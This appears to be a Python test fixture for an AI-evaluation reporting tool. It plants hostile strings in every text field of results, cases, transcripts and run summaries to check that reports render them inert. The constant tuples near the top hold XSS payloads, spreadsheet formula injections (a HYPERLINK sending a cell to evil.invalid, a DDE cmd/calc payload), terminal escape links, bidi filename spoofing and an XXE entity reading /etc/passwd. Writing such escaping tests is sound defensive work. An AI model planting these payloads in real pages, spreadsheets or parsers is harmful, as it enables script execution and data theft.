"""Text that means something to whoever shows it: HTML, scripts, formulas, terminal escapes, direction marks, Markdown,
XML. `hostile_results` plants one such text in every field of a Result that may hold foreign words, `hostile_summary` in
every field of a Run. What a report writes of them must be inert. What a
Result is found by has no NUL: it is refused there."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

from msgspec.structs import replace

from howsure.model.agent import Agent, AgentModel, AgentTool, KnowledgeBase
from howsure.model.case import Case, Scenario, SingleTurn, World
from howsure.model.expectation import Criteria, Criterion, ExpectedCall, Goal, ReferenceAnswer, ToolCalls
from howsure.model.result import Failure, Result
from howsure.model.rubric import Rubric, Rule, Scope, Severity
from howsure.model.run import DatasetPin
from howsure.model.score import LIKERT, Grade, Part, Score, Unscored, UnscoredReason
from howsure.model.simulation import Ending, Fault, MistakeKind, Party, Simulation, UserMistake
from howsure.model.summary import GateOutcome, GateRuling, Summary
from howsure.model.transcript import Message, Role, Tool, ToolCall, ToolResult, Transcript, Usage
from howsure.model.verdict import DECIDED, Verdict
from unit.reports.northwind import MOMENT, summary_of

HTML = (
    "<script>alert('planted')</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "</title></style></textarea><iframe src=javascript:alert(1)>",
    "<!--<script>",
    "&lt;b&gt;&#60;b&#62;",
    "{{ 7 * 7 }}{% raw %}",
)
FORMULAS = (
    '=HYPERLINK("http://evil.invalid/"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "＝1+1",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\rover\b\b\b\x7f",
    "a\x00b\x07",
)
DIRECTION = (
    "\u202egnp.exe",
    "\u2066\u2067\u2069left",
    "\u200f\u200emarks\u061c",
    "line\u2028para\u2029end\x85next",
)
MARKDOWN = (
    "# heading\n\n* list\n\n---\n",
    "[click](javascript:alert(1)) ![x](http://evil.invalid/x.png)",
    "`tick` ``` \n```\n<b>out</b>",
    "| a | b |\n| --- | --- |",
    "<details><summary>x</summary>",
    "www.evil.invalid http://evil.invalid @someone #1",
    "$math$ ~~gone~~ **bold** _it_",
    "[link]: http://evil.invalid",
)
XML = (
    "]]><injected/>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "\x0b\x0c\ufffe\uffff",
    '" injected="1',
)
HOSTILE: tuple[str, ...] = (*HTML, *FORMULAS, *TERMINAL, *DIRECTION, *MARKDOWN, *XML)


def without_nul(text: str) -> str:
    """As an id or a name may be: no store takes NUL in them."""
    return text.replace("\0", "")


def hostile_results(texts: Sequence[str] = HOSTILE) -> list[Result]:
    """Four results (one of each verdict) for each text, planted in every field of text they have."""
    return [
        hostile_result(text, verdict, position=len(DECIDED) * place + number)
        for place, text in enumerate(texts)
        for number, verdict in enumerate(DECIDED)
    ]


def hostile_result(text: str, verdict: Verdict = Verdict.FAILED, *, position: int = 0) -> Result:
    """`text` wherever a file, an agent or a judge can write. Its own id ends in the position, so that ids differ."""
    return Result(
        case=hostile_case(text, position),
        verdict=verdict,
        reasons=(text, f"and {text}"),
        grades=hostile_grades(text, verdict),
        failures=(Failure(kind="TargetFailed", message=text),) if verdict is Verdict.ERRORED else (),
        transcript=hostile_transcript(text),
        fault=Fault(party=Party.AGENT, reason=text, evidence=text),
        candidate=without_nul(text),
        position=position,
        created_at=MOMENT,
        duration_ms=5.0,
    )


def hostile_case(text: str, position: int = 0) -> Case:
    before = (Message(role=Role.USER, content=text), Message(role=Role.ASSISTANT, content=text))
    name = without_nul(text)
    scenario = Scenario(persona=text, initial_message=text, goal=text)
    criteria = (Criterion(id=name, text=text, description=text), Criterion(id="unanswered", text=text))
    return Case(
        id=f"{name}{position}",
        name=name,
        input=scenario if position % 2 else SingleTurn(message=text, context=text, history=before),
        world=World.TEST_SET if position % 4 < 2 else World.GOLDEN,
        expectations=(
            Criteria(criteria=criteria),
            ReferenceAnswer(answers=(text,)),
            ToolCalls(expected=(ExpectedCall(name=text, arguments={text: text}, reason=text),)),
            Goal(text=text),
        ),
        tags=(text,),
        labels={text: text},
        metadata={text: text},
        tools=(Tool(name=text, description=text),),
        state={text: text},
    )


def hostile_grades(text: str, verdict: Verdict) -> tuple[Grade, ...]:
    name = without_nul(text)
    rule = Part(id=name, text=text, severity=Severity.HIGH, scope=Scope.PROMPT.value)
    value = 5.0 if verdict is Verdict.PASSED else 1.0
    told: dict[str, Any] = {"reason": text, "judge": text, "details": {text: text}}
    return (
        Score(name=name, value=value, scale=LIKERT, pass_mark=3.0, evidence=(text,), **told),
        Score(name="criteria", value=0.0, pass_mark=1.0, part=Part(id=name, text=text), evidence=(text,), **told),
        Score(name="rubric", value=0.0, pass_mark=1.0, part=rule, evidence=(text,), **told),
        Unscored(name=f"broken {name}", why=UnscoredReason.ERROR, **told),
        Unscored(name=f"unjudged {name}", why=UnscoredReason.NO_JUDGE, **told),
    )


def hostile_transcript(text: str) -> Transcript:
    call = ToolCall(name=text, arguments={text: text}, id=text, result=ToolResult(content={text: text}, failed=True))
    slip = UserMistake(kind=MistakeKind.INVENTED_FACT, turn=1, reason=text, evidence=text)
    return Transcript(
        answer=text,
        messages=(
            Message(role=Role.USER, content=text),
            Message(role=Role.ASSISTANT, content=text, agent=text, tool_calls=(call,)),
        ),
        state={text: text},
        usage=Usage(prompt_tokens=1, completion_tokens=2),
        simulation=Simulation(user=text, ending=Ending.GAVE_UP, reason=text, slips=(slip,)),
        metadata={text: text},
    )


def hostile_agent(text: str) -> Agent:
    return Agent(
        id=text,
        name=text,
        system_prompt=text,
        model=AgentModel(provider=text, model=text, parameters={text: text}),
        tools=(AgentTool(tool_name=text, name=text, description=text, output_instructions=text),),
        knowledge_bases=(KnowledgeBase(id=text, name=text, type=text),),
        metadata={text: text},
    )


def hostile_summary(results: Sequence[Result], text: str = HTML[0]) -> Summary:
    """The summary of these results, of a run whose own names are hostile too."""
    rule = Rule(id=text, name=text, severity=Severity.HIGH, category=text, description=text, scope=Scope.PROMPT)
    pins = {
        "datasets": (DatasetPin(path=text, sha256="a" * 64, dialect="golden", cases=len(results), id=text, name=text),),
        "target": text,
        "judge": text,
        "profile": text,
        "simulator": text,
        "rubric": Rubric(name=text, rules=(rule,), id=text, description=text),
        "agent": hostile_agent(text),
    }
    found = summary_of(results, name=text, error=text, pins=pins)
    gate = GateRuling(expression=text, outcome=GateOutcome.FAILED, reason=text, candidate=text)
    return replace(found, gates=(gate,), faults={text: 1})
